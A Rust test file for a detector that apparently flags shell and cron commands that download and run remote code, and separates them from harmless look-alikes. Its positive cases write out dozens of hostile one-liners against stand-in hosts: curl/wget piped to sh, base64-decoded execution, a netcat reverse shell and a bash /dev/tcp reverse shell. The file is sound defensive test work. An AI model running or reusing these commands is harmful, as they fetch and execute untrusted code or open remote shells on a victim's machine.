//! Texts and what they do: each way into an interpreter beside texts that only look like it.

use super::*;

#[test]
fn texts_that_run_a_download_are_told_from_texts_that_only_download() {
    for text in [
        "wget -qO- http://203.0.113.9/s|sh",
        "(curl -fsSL http://x.example/i || wget -qO- http://x.example/i) | bash",
        "(curl -fsSL http://x.example/i; echo) | bash",
        "cd /tmp; curl -s http://x.example/a | sudo -n bash -s -- -q",
        "echo cm0= | base64 -d | sh",
        "lynx -source http://x.example/a | perl",
        "fetch -o - http://x.example/a | php",
        "bash -c \"$(curl -fsSL http://x.example/i)\"",
        "bash -c 'wget -qO- http://x.example/i | sh'",
        "eval `wget -qO- http://x.example`",
        ". <(curl -s http://x.example/i)",
        "bash <(curl -s http://x.example/i)",
        "bash < <(curl -s http://x.example/i)",
        "sh <<< \"$(curl -s http://x.example/i)\"",
        "wget http://x.example/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
        "curl -o x.pl http://x.example/y && perl x.pl >/dev/null 2>&1 &",
        "cd /tmp && wget http://x.example/bot.pl && perl bot.pl",
        "nohup timeout 30 curl http://x.example/a|/bin/sh >/dev/null 2>&1",
        "nice -n 19 curl http://x.example/a | nice -n 19 bash",
        "curl http://x.example/a.gz | gunzip | sh",
        "curl -s http://x.example/a > /tmp/a && . /tmp/a",
        "curl -s http://x.example/a | tee /tmp/a; bash /tmp/a",
        "X=$(curl -s http://x.example/a); eval \"$X\"",
        "C=curl; $C -s http://x.example/a | sh",
        "$(curl -s http://x.example/a)",
        "curl -s http://x.example/a | xargs -I{} sh -c {}",
        "curl -s http://x.example/a | php -r 'eval(stream_get_contents(STDIN));'",
        "echo 'curl -s http://x.example/a | sh' | at now",
        "if true; then curl -s http://x.example/a; fi | sh",
        "$(which curl) -s http://x.example/a | bash",
        "printf '\\x63\\x75\\x72\\x6c\\x20\\x61\\x62\\x63\\x64' | sh",
        "nc -e /bin/sh 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x.example/a').read())\"",
    ] {
        assert!(runs_download(text.as_bytes()), "{text}");
    }
    for text in [
        "wget -q -O - https://aoi.example/wp-cron.php > /dev/null 2>&1",
        "curl -s https://api.example/x | jq .name",
        "curl -s https://api.example/x | python3 -m json.tool",
        "curl -s https://api.example/x | python3 -c 'import json'",
        "curl https://x.example/a.tgz | tar xz",
        "curl https://x.example/a.tgz || sh notify.sh",
        "mysqldump db | gzip > a.gz; sh done.sh",
        "base64 -d a.b64 > a.png; php resize.php",
        "wget -O feed.csv https://x.example/f && php import.php",
        "wget -O feed.csv https://x.example/f && php artisan import feed.csv",
        "sh ddns.sh \"$(curl -s https://ip.example/)\"",
        "php sync.php --address=$(curl -s https://ip.example/)",
        "grep -r 'curl http' . ; sh",
        "echo 'curl http://x.example | sh'",
        "for f in *.sh; do sh $f; done",
        "echo ok # curl http://x.example | sh",
        "echo key | base64 -d > key.json && gcloud auth",
        "IP=$(curl -s https://ip.example/); echo $IP >> ip.log",
    ] {
        assert!(!runs_download(text.as_bytes()), "{text}");
    }
}

#[test]
fn a_started_file_is_named_with_its_folder() {
    let starts = |text: &str| {
        let deeds = read(text.as_bytes(), b"/home/aoi", None, &[]);
        let files = deeds.iter().filter_map(|deed| match deed {
            Deed::Starts { file, .. } => Some(String::from_utf8_lossy(file).into_owned()),
            _ => None,
        });
        files.collect::<Vec<_>>().join(" ")
    };
    for (text, want) in [
        ("cd web/../up && ./x", "/home/aoi/up/x"),
        ("flock -n /tmp/x.lock php -d memory_limit=1G ~/app/artisan queue:work", "/home/aoi/app/artisan"),
        ("flock -n /tmp/x.lock -c 'timeout 50 ~/bin/x'", "/home/aoi/bin/x"),
        ("/usr/local/bin/ea-php82 -q $HOME/www/cron.php", "/home/aoi/www/cron.php"),
        ("/opt/plesk/php/8.2/bin/php -f httpdocs/x.php", "/home/aoi/httpdocs/x.php"),
        ("pgrep -f x || (cd bin && nohup ./x &)", "/home/aoi/bin/x"),
    ] {
        assert_eq!(starts(text), want, "{text}");
    }
}

#[test]
fn no_text_panics_or_takes_long() {
    let parts: &[&[u8]] = &[
        b"$(", b"`", b"'", b"\"", b"(", b")", b"{ ", b"}", b"|", b"<(", b"<<<", b">", b"&", b"\\", b"curl ", b"sh ",
        b"$A", b"A=$A$A ", b"do ", b"done ", b"xargs ", b"\0", b"\xff", b"eval ", b"-c ", b"\n", b"%", b"#",
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    for round in 0..3000 {
        let mut text = Vec::new();
        for _ in 0..(round % 60) {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.extend_from_slice(parts[(seed >> 33) as usize % parts.len()]);
        }
        read(&text, b"/home/aoi", Some(&text), &[]);
    }
    for part in parts {
        read(&part.repeat((64 << 10) / part.len()), b"/home/aoi", None, &[]);
    }
}
